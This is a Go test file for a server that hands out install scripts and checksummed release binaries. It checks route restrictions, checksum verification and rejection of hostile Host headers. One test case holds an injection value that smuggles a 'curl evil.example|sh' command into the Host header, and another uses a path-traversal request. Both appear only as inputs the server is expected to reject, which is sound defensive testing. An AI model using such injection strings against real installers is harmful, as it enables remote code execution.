//go:build unix

package downloads_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pierre-mcp/pierre/remote/downloads"
)

// serve offers a program that answers "version" as the build for this machine.
func serve(t *testing.T, opts downloads.Options) (url, dir string) {
	t.Helper()
	dir = t.TempDir()
	name := "mcp-client_" + runtime.GOOS + "_" + runtime.GOARCH
	program := []byte("#!/bin/sh\necho mcp-client 1.2.3 \"$@\"\n")
	sum := sha256.Sum256(program)
	write(t, filepath.Join(dir, name), string(program))
	write(t, filepath.Join(dir, "checksums.txt"), hex.EncodeToString(sum[:])+"  "+name+"\n")
	opts.Dir, opts.Log = dir, slog.New(slog.NewTextHandler(t.Output(), nil))
	s, err := downloads.New(ready, opts)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s)
	t.Cleanup(func() {
		srv.Close()
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return srv.URL, dir
}

func ready(context.Context) error { return nil }

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestRoutes(t *testing.T) {
	url, dir := serve(t, downloads.Options{})
	write(t, filepath.Join(dir, "pierre.db"), "secret")
	write(t, filepath.Join(filepath.Dir(dir), "outside"), "secret")
	for path, want := range map[string]int{
		"/install.sh":                            http.StatusOK,
		"/install.ps1":                           http.StatusOK,
		"/download/checksums.txt":                http.StatusOK,
		"/download/mcp-client_windows_arm64.exe": http.StatusNotFound, // not in the folder
		"/download/pierre.db":                    http.StatusNotFound, // not of a release
		"/download/..%2foutside":                 http.StatusNotFound,
		"/download/":                             http.StatusOK,
		"/":                                      http.StatusOK,
		"/download/mcp-client_linux_amd64.sha256": http.StatusNotFound,
	} {
		resp, err := client().Get(url + path)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != want || strings.Contains(string(body), "secret") {
			t.Errorf("%s answered %d %.80s %v, want %d", path, resp.StatusCode, body, err, want)
		}
	}
}

func TestInstallersNameTheirServer(t *testing.T) {
	for name, tc := range map[string]struct {
		opts   downloads.Options
		host   string
		proto  string
		want   string
		status int
	}{
		"as asked":       {host: "pierre.example.com:8081", want: "http://pierre.example.com:8081", status: 200},
		"behind a proxy": {host: "pierre.example.com", proto: "https", want: "https://pierre.example.com", status: 200},
		"as configured":  {opts: downloads.Options{PublicURL: "https://fit.example.com"}, host: "10.0.0.7:8081", want: "https://fit.example.com", status: 200},
		"hostile host":   {host: "x';curl evil.example|sh;'", status: 422},
		"host with path": {host: "evil.example/x", status: 422},
		"host with user": {host: "a@evil.example", status: 422},
		"no host":        {host: "", status: 422},
		"IPv6":           {host: "[2001:db8::1]:8081", want: "http://[2001:db8::1]:8081", status: 200},
	} {
		t.Run(name, func(t *testing.T) {
			tc.opts.Dir = t.TempDir()
			s, err := downloads.New(ready, tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			r := httptest.NewRequest(http.MethodGet, "/install.sh", nil)
			r.Host = tc.host
			r.Header.Set("X-Forwarded-Proto", tc.proto)
			w := httptest.NewRecorder()
			s.ServeHTTP(w, r)
			if w.Code != tc.status || tc.status == 200 && !strings.Contains(w.Body.String(), "origin='"+tc.want+"'") || strings.Contains(w.Body.String(), "evil") {
				t.Errorf("answered %d:\n%s", w.Code, w.Body)
			}
		})
	}
}

// TestInstallScript pipes the script into every shell that is here, in a clean home.
func TestInstallScript(t *testing.T) {
	for _, shell := range []string{"sh", "dash", "bash", "busybox", "zsh"} {
		t.Run(shell, func(t *testing.T) {
			program, err := exec.LookPath(shell)
			if err != nil {
				t.Skip("this shell is not here")
			}
			args := []string{program}
			if shell == "busybox" {
				args = append(args, "sh")
			}
			url, _ := serve(t, downloads.Options{})
			home := t.TempDir()
			out, err := runInstaller(t, url, home, args)
			installed := filepath.Join(home, ".local", "bin", "mcp-client")
			if err != nil || !strings.Contains(out, "Installed mcp-client 1.2.3") || !strings.Contains(out, "install --url "+url) {
				t.Fatalf("%v\n%s", err, out)
			}
			if info, err := os.Stat(installed); err != nil || info.Mode().Perm() != 0o755 {
				t.Errorf("the installed program: %v %v", info, err)
			}
			if again, err := runInstaller(t, url, home, args); err != nil {
				t.Errorf("installing again: %v\n%s", err, again)
			}
			entries, err := os.ReadDir(filepath.Dir(installed))
			if err != nil || len(entries) != 1 {
				t.Errorf("the folder holds %v %v, want the program alone", entries, err)
			}
		})
	}
}

func TestInstallScriptRefusesDamage(t *testing.T) {
	for name, damage := range map[string]func(t *testing.T, dir string){
		"another program":     func(t *testing.T, dir string) { replace(t, dir, "mcp-client_", "#!/bin/sh\necho evil\n") },
		"no checksum":         func(t *testing.T, dir string) { replace(t, dir, "checksums", "\n") },
		"no build of this os": func(t *testing.T, dir string) { remove(t, dir, "mcp-client_") },
	} {
		t.Run(name, func(t *testing.T) {
			url, dir := serve(t, downloads.Options{})
			damage(t, dir)
			home := t.TempDir()
			out, err := runInstaller(t, url, home, []string{"sh"})
			if err == nil || !strings.Contains(out, "install.sh: ") {
				t.Errorf("the script said %v:\n%s", err, out)
			}
			if _, err := os.Stat(filepath.Join(home, ".local", "bin", "mcp-client")); err == nil {
				t.Error("it was installed all the same")
			}
		})
	}
}

func replace(t *testing.T, dir, prefix, text string) {
	t.Helper()
	write(t, one(t, dir, prefix), text)
}

func remove(t *testing.T, dir, prefix string) {
	t.Helper()
	if err := os.Remove(one(t, dir, prefix)); err != nil {
		t.Fatal(err)
	}
}

func one(t *testing.T, dir, prefix string) string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(dir, prefix+"*"))
	if err != nil || len(found) != 1 {
		t.Fatalf("found %v %v", found, err)
	}
	return found[0]
}

func client() *http.Client { return &http.Client{Timeout: time.Minute} }

// runInstaller runs "curl URL/install.sh | SHELL" without a terminal.
func runInstaller(t *testing.T, url, home string, shell []string) (string, error) {
	t.Helper()
	return pipe(t, fetch(t, url+"/install.sh"), home, os.Getenv("PATH"), shell)
}

// pipe lets a shell read the script.
func pipe(t *testing.T, script, home, path string, shell []string) (string, error) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), shell[0], shell[1:]...)
	cmd.Stdin = strings.NewReader(script)
	cmd.Env = []string{"HOME=" + home, "PATH=" + path}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true} // no terminal: a test must not ask for a key
	out, err := cmd.CombinedOutput()
	if err != nil {
		err = fmt.Errorf("%s: %w", shell[0], err)
	}
	return string(out), err
}
